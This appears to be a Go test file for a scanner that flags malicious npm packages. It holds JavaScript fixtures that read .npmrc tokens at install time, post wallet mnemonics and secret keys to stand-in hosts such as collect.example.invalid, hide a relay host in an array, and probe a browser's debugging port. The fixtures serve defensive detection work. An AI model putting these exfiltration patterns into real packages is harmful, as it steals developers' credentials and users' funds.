		{"browser_launcher", map[string]string{"index.js": `const fs=require("fs"),path=require("path"); const roots = [path.join(local, "Google", "Chrome", "User Data"), path.join(local, "Google", "Chrome Beta", "User Data")]; roots.filter(r => fs.existsSync(r))`}, finding.SeverityMedium},
		// a launcher looking for a running browser's debugging port
		{"browser_launcher_port_check", map[string]string{"index.js": `const fs=require("fs"),path=require("path"),net=require("net"); const dirs = [path.join(local, "Google", "Chrome", "User Data"), path.join(local, "Microsoft", "Edge", "User Data")];
async function port(d) { const p = await fs.promises.readFile(path.join(d, "DevToolsActivePort"), "utf8"); return net.createConnection(+p, "127.0.0.1") }`}, finding.SeverityMedium},
		{"browser_launcher_override", map[string]string{"index.js": `const path=require("path"); const dir = process.env.CHROME_USER_DATA_DIR || path.join(local, "Google", "Chrome", "User Data"); require("fs").existsSync(dir)`}, finding.SeverityLow},
		{"npmrc_mention", map[string]string{"index.js": `const name = ".npmrc"`}, finding.SeverityLow},
		// a config reader: the registry setting, nowhere to send it
		{"npmrc_config_reader", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8"); module.exports = /registry=(.*)/.exec(rc)`}, finding.SeverityLow},
		// the same read with a webhook in the file, or at install, is not
		{"npmrc_read_with_url", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("os").homedir() + "/.npmrc", "utf8"); module.exports = { rc, hook: "https://discord.com/api/webhooks/1/x" }`}, finding.SeverityMedium},
		{"npmrc_read_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node rc.js"}`), "rc.js": `const fs = require("fs"); const rc = fs.readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("./send")(rc)`}, finding.SeverityMedium},
		{"unrelated_paths", map[string]string{"index.js": `require("fs").readFileSync("./config/settings.json")`}, finding.SeverityNone},
		// cloud SDKs ask the instance metadata service for their own credentials
		{"cloud_sdk_imds", map[string]string{"index.js": `const IMDS = "http://169.254.169.254/latest/api/token"; require("http").request(IMDS, {method: "PUT"})`}, finding.SeverityNone},
	})
}

func TestSecretExfil(t *testing.T) {
	rt.Check(t, SecretExfil{}, []rt.Case{
		{"helper_sender", map[string]string{"index.js": `class L { static q(k) { fetch("https://collect.example.invalid/q", {method:"POST", headers:{"x-id": k}}) } }
function load(secretKey) { L.q(secretKey) }`}, finding.SeverityCritical},
		{"direct", map[string]string{"index.js": `axios.post("https://x.invalid", { mnemonic })`}, finding.SeverityCritical},
		// the sender in another file of the package (xrpl.js 4.2.1)
		{"imported_sender", map[string]string{"package.json": rt.Pkg(`"main":"src/wallet.js"`),
			"src/wallet.js":         "const { checkSeed } = require('./utils/validate');\nclass W { constructor(pub, privateKey) { this.privateKey = privateKey; checkSeed(this.privateKey); } }\nmodule.exports = W;",
			"src/utils/validate.js": "function checkSeed(v) { fetch('https://seed.example.invalid/c', { method: 'POST', headers: { 'ad-referral': v } }); return true }\nmodule.exports = { checkSeed };"}, finding.SeverityCritical},
		// the same helper handed a public value, or not loaded by the caller
		{"imported_sender_public", map[string]string{"package.json": rt.Pkg(`"main":"src/wallet.js"`),
			"src/wallet.js":         "const { checkSeed } = require('./utils/validate');\ncheckSeed(address); recheckSeed(privateKey);",
			"src/other.js":          "checkSeed(privateKey)",
			"src/utils/validate.js": "function checkSeed(v) { fetch('https://seed.example.invalid/c', { method: 'POST', headers: { 'x': v } }) }\nmodule.exports = { checkSeed };"}, finding.SeverityNone},
		// a wallet helper relaying what it is given through a sender whose
		// host is kept in an array
		{"wallet_phrase_relay", map[string]string{"index.js": "const { Wallet } = require(\"ethers\"); const h = [\"relay.example.invalid\"]; function _r(t) { require(\"https\").get(`https://${h[0]}/m?text=${encodeURIComponent(t)}`) }\nfunction fromMnemonic(phrase) { _r(\"mn:\" + phrase); return Wallet.fromPhrase(phrase) }"}, finding.SeverityCritical},
		// an SDK authenticating to its service with the API secret of its
		// configuration; the same name next to a wallet library is not that
		{"api_secret_header", map[string]string{"index.js": `const WebSocket = require("ws"); exports.connect = (url, opts) => new WebSocket(url, { headers: { "X-SECRET": opts.SECRET_KEY } })`}, finding.SeverityNone},
		{"api_secret_wallet", map[string]string{"index.js": `const { Keypair } = require("@solana/web3.js"); const k = Keypair.generate(); fetch("https://c.example.invalid/k", { method: "POST", body: k.SECRET_KEY })`}, finding.SeverityCritical},
		// a cache key is no secret, wallet library or not
		{"wallet_cache_key", map[string]string{"index.js": "const { Wallet } = require(\"ethers\"); function get(key) { return fetch(`https://api.example.com/cache/${key}`) }"}, finding.SeverityNone},
		{"phrase_without_wallet", map[string]string{"index.js": "function t(phrase) { return fetch(`https://translate.example.com/?q=${phrase}`) }"}, finding.SeverityNone},
		{"local_signing", map[string]string{"index.js": `function sign(msg, secretKey) { return nacl.sign(msg, secretKey) } fetch("https://rpc.example.com", {body: signature})`}, finding.SeverityNone},
		// a bundle: module 1's t posts to a URL, module 2's unrelated t only
		// trims the key it is given
		{"same_name_other_function", map[string]string{"index.js": `(function(){ function t(d){ fetch("https://api.example.com/log", {method:"POST", body:d}) } t("started") })();
(function(){ function t(k){ return String(k).trim() } t(wallet.secretKey) })();`}, finding.SeverityNone},
		{"same_name_the_sender", map[string]string{"index.js": `(function(){ function t(k){ return String(k).trim() } t("x") })();
(function(){ function t(d){ fetch("https://collect.example.invalid/q", {method:"POST", body:d}) } t(wallet.secretKey) })();`}, finding.SeverityCritical},
	})
}
